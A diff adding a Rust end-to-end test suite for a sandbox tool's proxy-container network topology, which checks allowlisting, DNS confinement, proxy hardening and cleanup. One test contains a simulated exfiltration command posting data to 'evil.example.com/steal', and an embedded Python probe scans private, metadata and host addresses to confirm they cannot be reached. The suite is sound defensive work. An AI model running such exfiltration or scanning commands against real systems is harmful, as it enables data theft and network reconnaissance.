@@ -1,0 +1,397 @@
+//! The second topology: the workload shares a network with a proxy container and with nobody else.
+
+use std::{
+    fs,
+    io::Write,
+    net::{Ipv4Addr, TcpListener, UdpSocket},
+    process::{Command, Stdio},
+    sync::{
+        Arc,
+        atomic::{AtomicU8, AtomicU32, Ordering},
+    },
+    thread,
+    time::Duration,
+};
+
+use origin::Origin;
+use rustix::process::Signal;
+
+use crate::setup::{BUSYBOX, DEBIAN, Run, Setup, cordon, eventually, on_every_engine};
+
+/// Waits for a list of targets, tries each over TCP and UDP, and says what answers over TCP. Link-local
+/// addresses are tried on the container's own interface.
+const PROBE: &str = r#"
+import concurrent.futures, os, socket, time
+open("ready", "w").close()
+while not os.path.exists("targets"):
+    time.sleep(0.05)
+def probe(target):
+    host, _, port = target.rpartition("@")
+    family = socket.AF_INET6 if ":" in host else socket.AF_INET
+    address = (host, int(port))
+    if host.startswith("fe80:"):
+        address = (host, int(port), 0, socket.if_nametoindex("eth0"))
+    with socket.socket(family, socket.SOCK_DGRAM) as s:
+        try:
+            s.sendto(b"probe", address)
+        except OSError:
+            pass
+    with socket.socket(family, socket.SOCK_STREAM) as s:
+        s.settimeout(2)
+        try:
+            s.connect(address)
+            return True
+        except OSError:
+            return False
+targets = open("targets").read().split()
+with concurrent.futures.ThreadPoolExecutor(64) as pool:
+    for target, found in zip(targets, pool.map(probe, targets)):
+        if found:
+            print("open", target)
+print("done")
+"#;
+
+/// The address that names have, which is the proxy's.
+const PROXY: &str = "$(sed -n 's/nameserver //p' /etc/resolv.conf)";
+
+on_every_engine! {
+    fn an_allowed_host_is_reached_and_recorded(setup) {
+        let outside = Outside::new(&["api.example.com"]);
+        let run = beside(setup).image(DEBIAN).origin(&outside.origin, &["api.example.com"])
+            .sh("for version in --http1.1 --http2; do curl -sS -o /dev/null -w '%{http_code}\\n' $version https://api.example.com/echo; done; curl -sS -o /dev/null -w '%{http_code}\\n' http://api.example.com/");
+        let ended = run.end();
+        assert_eq!((ended.code, ended.stdout.as_str()), (0, "200\n200\n200\n"), "{ended:?} {}", run.network_log());
+        let log = run.network_log();
+        assert_eq!(log.matches("ALLOWED GET https://api.example.com/echo -> 200").count(), 2, "{log}");
+        assert_eq!(log.matches("=== TASK START").count(), 1, "{log}");
+        let lines = fs::read_to_string(run.path("network.jsonl")).unwrap();
+        assert_eq!(lines.matches("\"verdict\":\"allowed\"").count(), 3, "{lines}");
+        assert_eq!(left_by(setup, ended.pid), Vec::<String>::new());
+    }
+
+    fn a_host_that_is_not_listed_is_refused_and_never_dialled(setup) {
+        let outside = Outside::new(&["evil.example.com"]);
+        let run = beside(setup).image(DEBIAN).origin(&outside.origin, &["api.example.com"])
+            .sh("curl -sS -w '\\n%{http_code}\\n' https://evil.example.com/steal?x=1 -d data");
+        let ended = run.end();
+        assert!(ended.stdout.ends_with("\n403\n"), "{ended:?}");
+        assert!(ended.stdout.contains("blocked_by_network_allowlist"), "{ended:?}");
+        assert_eq!(outside.origin.connections(), 0);
+        assert!(run.network_log().contains("BLOCKED POST https://evil.example.com/steal?x=1 -> 403"), "{}", run.network_log());
+    }
+
+    fn the_hosts_services_are_out_of_reach_on_every_address_of_every_bridge(setup) {
+        let (port, heard) = host_service();
+        let found = probe(setup, |_| host_addresses().iter().map(|address| format!("{address}@{port}")).collect());
+        assert_eq!(found, Vec::<String>::new());
+        assert_eq!(heard.load(Ordering::SeqCst), 0);
+    }
+
+    fn on_its_own_network_there_is_nothing_but_the_three_ports_of_the_proxy(setup) {
+        let (port, heard) = host_service();
+        let mut proxy = String::new();
+        let found = probe(setup, |resolver| {
+            proxy = resolver.to_owned();
+            let (net, last) = resolver.rsplit_once('.').unwrap();
+            let base = last.parse::<u8>().unwrap() - 2;
+            (base + 1..base + 15)
+                .flat_map(|host| [22, 53, 80, 443, 2375, 8080, port].map(|port| format!("{net}.{host}@{port}")))
+                .collect()
+        });
+        let expected: Vec<_> = [53, 80, 443].iter().map(|port| format!("{proxy}@{port}")).collect();
+        assert_eq!(found, expected);
+        assert_eq!(heard.load(Ordering::SeqCst), 0);
+    }
+
+    fn raw_addresses_and_other_networks_are_out_of_reach(setup) {
+        let targets = [
+            "198.51.100.7@80", "198.51.100.7@443", "1.1.1.1@53", "8.8.8.8@443", "169.254.169.254@80", "10.0.0.1@443",
+            "10.88.0.1@53", "10.89.0.1@53", "172.17.0.1@80", "172.18.0.1@80", "192.168.0.1@22", "127.0.0.11@53", "2001:db8::1@443", "fe80::1@80",
+        ];
+        // Docker's own name server is in every container, and the next test shows that it knows nothing.
+        let found = probe(setup, |_| targets.map(str::to_owned).into());
+        let found: Vec<_> = found.iter().filter(|target| *target != "127.0.0.11@53").collect();
+        assert_eq!(found, Vec::<&String>::new());
+    }
+
+    fn no_name_server_answers_but_the_proxy(setup) {
+        let script = format!("proxy={PROXY}; for server in 1.1.1.1 127.0.0.11 10.88.0.1 10.89.0.1 172.17.0.1 192.0.2.1 ${{proxy%.*}}.1; do \
+                      dig +time=1 +tries=1 +short @$server example.com A | grep -v '^;' | sed \"s/^/$server says /\"; done; \
+                      [ \"$(dig +short example.com A)\" = $proxy ] && [ \"$(dig +tcp +short example.org A)\" = $proxy ] && echo the proxy answers; \
+                      dig +short example.com AAAA; getent ahosts cordon-proxy | grep -v $proxy");
+        let ended = beside(setup).image(DEBIAN).sh(&script).end();
+        assert_eq!(ended.stdout, "the proxy answers\n", "{ended:?}");
+    }
+
+    fn the_container_has_no_ipv6_and_no_route_to_anybody_who_forwards(setup) {
+        let ended = beside(setup).image(DEBIAN).sh("cat /proc/net/if_inet6; tail -n +2 /proc/net/route | cut -f 2,3").end();
+        let routes: Vec<_> = ended.stdout.lines().collect();
+        // Docker writes a route to a gateway that does not exist.
+        let to_nobody = routes.iter().filter(|route| route.starts_with("00000000")).count();
+        assert_eq!(to_nobody, usize::from(setup == Setup::Docker), "{ended:?}");
+        assert_eq!(routes.len() - to_nobody, 1, "{ended:?}");
+    }
+
+    fn the_proxy_container_is_confined_and_forwards_nothing(setup) {
+        let running = beside(setup).start_script("sleep 60");
+        let pid = running.pid();
+        let names = setup.containers_of(pid);
+        let name = names.iter().find(|name| name.ends_with("-proxy")).unwrap();
+        let process = setup.ask(&["inspect", "--format", "{{.State.Pid}}", name]);
+        let process = process.trim();
+        let status = fs::read_to_string(format!("/proc/{process}/status")).unwrap();
+        let field = |name: &str| status.lines().find_map(|line| line.strip_prefix(name)).unwrap().trim().to_owned();
+        assert_eq!(field("CapEff:"), "0000000000000000");
+        assert_eq!(field("CapBnd:"), "0000000000000000");
+        assert_eq!(field("NoNewPrivs:"), "1");
+        assert_ne!(field("Uid:").split_whitespace().next(), Some("0"));
+        let inside = |file: &str| {
+            let output = Command::new("nsenter").args(["-t", process, "-n", "cat", file]).output().unwrap();
+            String::from_utf8(output.stdout).unwrap()
+        };
+        assert_eq!(inside("/proc/sys/net/ipv4/ip_forward"), "0\n");
+        assert_eq!(inside("/proc/net/if_inet6"), "");
+        let rootfs = setup.ask(&["inspect", "--format", "{{.HostConfig.ReadonlyRootfs}} {{.HostConfig.Memory}}", name]);
+        // Without root, limits need version 2 of the control groups.
+        let memory = if setup == Setup::Rootless { rootfs.trim().rsplit(' ').next().unwrap() } else { "536870912" };
+        assert_eq!(rootfs.trim(), format!("true {memory}"));
+        running.signal(Signal::TERM);
+        running.end();
+        assert_eq!(left_by(setup, pid), Vec::<String>::new());
+    }
+
+    fn on_its_way_out_the_proxy_listens_nowhere(setup) {
+        let running = beside(setup).start_script("sleep 60");
+        let names = setup.containers_of(running.pid());
+        let name = names.iter().find(|name| name.ends_with("-proxy")).unwrap();
+        let process = setup.ask(&["inspect", "--format", "{{.State.Pid}}", name]);
+        let listening = fs::read_to_string(format!("/proc/{}/net/tcp", process.trim())).unwrap();
+        let addresses: std::collections::BTreeSet<_> = listening.lines()
+            .filter(|line| line.split_whitespace().nth(3) == Some("0A"))
+            .map(|line| line.split_whitespace().nth(1).unwrap().split(':').next().unwrap().to_owned())
+            .filter(|address| address != "0B00007F") // Docker's own name server, on loopback.
+            .collect();
+        assert_eq!(addresses.len(), 1, "{listening}");
+        assert!(!addresses.contains("00000000"), "{listening}");
+        running.signal(Signal::TERM);
+        running.end();
+    }
+
+    fn two_runs_side_by_side_do_not_reach_each_other(setup) {
+        let other = beside(setup).image(DEBIAN).sh("hostname -I | cut -d' ' -f1 > address; sed -n 's/nameserver //p' /etc/resolv.conf > proxy; touch ready; exec python3 -m http.server --bind 0.0.0.0 4242 >&2");
+        let running = other.start();
+        eventually("the other run serves", Duration::from_secs(30), || other.path("ready").exists());
+        let read = |name: &str| fs::read_to_string(other.path(name)).unwrap().trim().to_owned();
+        let (address, proxy) = (read("address"), read("proxy"));
+        assert!(address.parse::<Ipv4Addr>().is_ok() && address != proxy, "{address} {proxy}");
+        let found = probe(setup, |own| {
+            assert_ne!(own, proxy);
+            vec![format!("{address}@4242"), format!("{proxy}@53"), format!("{proxy}@80"), format!("{proxy}@443")]
+        });
+        assert_eq!(found, Vec::<String>::new());
+        let pid = running.pid();
+        running.signal(Signal::TERM);
+        running.end();
+        assert_eq!(left_by(setup, pid), Vec::<String>::new());
+    }
+
+    fn when_the_host_process_is_killed_both_containers_die_and_the_next_run_removes_the_network(setup) {
+        let running = beside(setup).start_script("trap '' TERM INT HUP; while :; do sleep 0.1; done");
+        let pid = running.pid();
+        assert_eq!(setup.containers_of(pid).len(), 2);
+        running.signal(Signal::KILL);
+        running.end();
+        eventually("both containers are gone", Duration::from_secs(5), || setup.containers_of(pid).is_empty());
+        beside(setup).command(["true"]).succeed();
+        assert_eq!(left_by(setup, pid), Vec::<String>::new());
+    }
+
+    fn a_run_that_is_killed_while_it_starts_leaves_nothing_to_the_next(setup) {
+        let mut pids = Vec::new();
+        for delay in [100, 250, 400, 600, 900] {
+            let running = beside(setup).sh("sleep 60").start();
+            pids.push(running.pid());
+            thread::sleep(Duration::from_millis(delay));
+            running.signal(Signal::KILL);
+            running.end();
+        }
+        // Calls of the engine that were under way end by themselves.
+        thread::sleep(Duration::from_secs(2));
+        beside(setup).command(["true"]).succeed();
+        for pid in pids {
+            assert_eq!(left_by(setup, pid), Vec::<String>::new());
+        }
+    }
+
+    fn stop_and_timeout_leave_nothing(setup) {
+        let ended = beside(setup).flags(["--timeout", "3"]).sh("sleep 300").end();
+        assert_eq!(ended.code, 124, "{ended:?}");
+        assert_eq!(left_by(setup, ended.pid), Vec::<String>::new());
+        let running = beside(setup).sh("sleep 300").start();
+        let pid = running.pid();
+        thread::sleep(Duration::from_millis(300));
+        running.signal(Signal::TERM);
+        assert_eq!(running.end().code, 143);
+        eventually("nothing is left", Duration::from_secs(5), || left_by(setup, pid).is_empty());
+    }
+
+    fn a_run_whose_proxy_is_lost_fails_and_its_command_ends(setup) {
+        let running = beside(setup).start_script("sleep 300");
+        let pid = running.pid();
+        let names = setup.containers_of(pid);
+        let name = names.iter().find(|name| name.ends_with("-proxy")).unwrap();
+        setup.ask(&["kill", name]);
+        let ended = running.end();
+        assert_eq!(ended.code, 125, "{ended:?}");
+        assert!(ended.stderr.contains("the proxy container was lost"), "{ended:?}");
+        assert_eq!(left_by(setup, pid), Vec::<String>::new());
+    }
+
+    fn a_proxy_that_does_not_get_ready_fails_the_run_before_the_command(setup) {
+        let place = tempfile::Builder::new().prefix("cordon-e2e-").tempdir_in("/tmp").unwrap();
+        fs::set_permissions(place.path(), std::os::unix::fs::PermissionsExt::from_mode(0o777)).unwrap();
+        let program = place.path().join("cordon");
+        fs::copy(cordon(), &program).unwrap();
+        let run = |proxy: &str| {
+            fs::copy(proxy, place.path().join("cordon-proxy")).unwrap();
+            let output = setup.command(&program).current_dir(place.path())
+                .args(["run", "--engine", setup.engine(), "--topology", "proxy-container", "--image", BUSYBOX, "--", "touch", "ran"])
+                .stdin(Stdio::null()).env_remove("XDG_CACHE_HOME").output().unwrap();
+            assert_eq!(output.status.code(), Some(125), "{output:?}");
+            assert!(!place.path().join("ran").exists());
+            String::from_utf8(output.stderr).unwrap()
+        };
+        let said = run("/usr/sbin/ldconfig");
+        assert!(said.contains("the proxy container does not serve"), "{said}");
+        let said = run("/bin/true");
+        assert!(said.contains("is not a static program"), "{said}");
+        fs::remove_file(place.path().join("cordon-proxy")).unwrap();
+        let networks = setup.ask(&["network", "ls", "--filter", "label=cordon.owner", "--format", "{{.Name}}"]);
+        assert_eq!(networks.lines().filter(|name| !alive(name)).collect::<Vec<_>>(), Vec::<&str>::new());
+    }
+
+    fn auto_takes_the_door_here_and_says_so(setup) {
+        let ended = Run::new(setup).flags(["--verbose"]).command(["true"]).succeed();
+        assert!(ended.stderr.contains("connected by the door"), "{ended:?}");
+    }
+}
+
+/// A run in this topology.
+fn beside(setup: Setup) -> Run {
+    Run::new(setup).flags(["--topology", "proxy-container"])
+}
+
+/// What of these targets answers from inside a container; the proxy's address is told first.
+fn probe(setup: Setup, targets: impl FnOnce(&str) -> Vec<String>) -> Vec<String> {
+    let run = beside(setup).image(DEBIAN).sh(&format!(
+        "echo {PROXY} > proxy; exec python3 -c \"$0\" 2>&1"
+    ));
+    let run = run.command_with(&[PROBE]);
+    let running = run.start();
+    eventually("the probe waits", Duration::from_secs(30), || {
+        run.path("ready").exists()
+    });
+    let proxy = fs::read_to_string(run.path("proxy")).unwrap();
+    let list = targets(proxy.trim()).join("\n");
+    fs::write(run.path("list"), list).unwrap();
+    fs::rename(run.path("list"), run.path("targets")).unwrap();
+    let ended = running.end();
+    assert!(ended.stdout.ends_with("done\n"), "{ended:?}");
+    assert_eq!(left_by(setup, ended.pid), Vec::<String>::new());
+    let found = ended
+        .stdout
+        .lines()
+        .filter_map(|line| line.strip_prefix("open "));
+    found.map(str::to_owned).collect()
+}
+
+/// Everything that the process with this id left, networks among it.
+fn left_by(setup: Setup, pid: u32) -> Vec<String> {
+    let listed = setup.ask(&["network", "ls", "--format", "{{.Name}}"]);
+    let mark = format!("-{pid}-");
+    let networks = listed.lines().filter(|name| name.contains(&mark));
+    let mut left = setup.left_by(pid);
+    left.extend(networks.map(|name| format!("network {name}")));
+    left
+}
+
+/// Whether the process that made a network still runs.
+fn alive(network: &str) -> bool {
+    let pid = network.split('-').nth(2).unwrap_or_default();
+    fs::exists(format!("/proc/{pid}")).unwrap()
+}
+
+/// The world outside as a container's network reaches it: at an address that is not loopback.
+struct Outside {
+    origin: Origin,
+    address: Ipv4Addr,
+}
+
+impl Outside {
+    fn new(names: &[&str]) -> Self {
+        static NEXT: AtomicU8 = AtomicU8::new(1);
+        let [.., high, low] = std::process::id().to_be_bytes();
+        // The range for benchmarks between networks; bit by bit from the process id.
+        let address = Ipv4Addr::new(
+            198,
+            18 | (high & 1),
+            low,
+            NEXT.fetch_add(1, Ordering::SeqCst),
+        );
+        ip(&["addr", "add", &format!("{address}/32"), "dev", "lo"]);
+        Self {
+            origin: Origin::start_at(address, names),
+            address,
+        }
+    }
+}
+
+impl Drop for Outside {
+    fn drop(&mut self) {
+        ip(&["addr", "del", &format!("{}/32", self.address), "dev", "lo"]);
+    }
+}
+
+fn ip(arguments: &[&str]) {
+    let status = Command::new("ip").args(arguments).status().unwrap();
+    assert!(status.success(), "ip {arguments:?}");
+}
+
+/// A service of the host on every address it has, and how often it was reached.
+fn host_service() -> (u16, Arc<AtomicU32>) {
+    let heard = Arc::new(AtomicU32::new(0));
+    let tcp = TcpListener::bind("[::]:0").unwrap();
+    let port = tcp.local_addr().unwrap().port();
+    let udp = UdpSocket::bind(("::", port)).unwrap();
+    let counter = Arc::clone(&heard);
+    thread::spawn(move || {
+        for mut stream in tcp.incoming().flatten() {
+            counter.fetch_add(1, Ordering::SeqCst);
+            drop(stream.write_all(b"reached\n"));
+        }
+    });
+    let counter = Arc::clone(&heard);
+    thread::spawn(move || {
+        while udp.recv(&mut [0; 64]).is_ok() {
+            counter.fetch_add(1, Ordering::SeqCst);
+        }
+    });
+    (port, heard)
+}
+
+/// Every address of the host at this moment but loopback ones.
+fn host_addresses() -> Vec<String> {
+    let output = Command::new("ip")
+        .args(["-o", "addr", "show"])
+        .output()
+        .unwrap();
+    let text = String::from_utf8(output.stdout).unwrap();
+    let words = text
+        .lines()
+        .filter_map(|line| line.split_whitespace().nth(3));
+    words
+        .filter_map(|word| word.split('/').next())
+        .filter(|address| !address.starts_with("127.") && *address != "::1")
+        .map(str::to_owned)
+        .collect()
+}
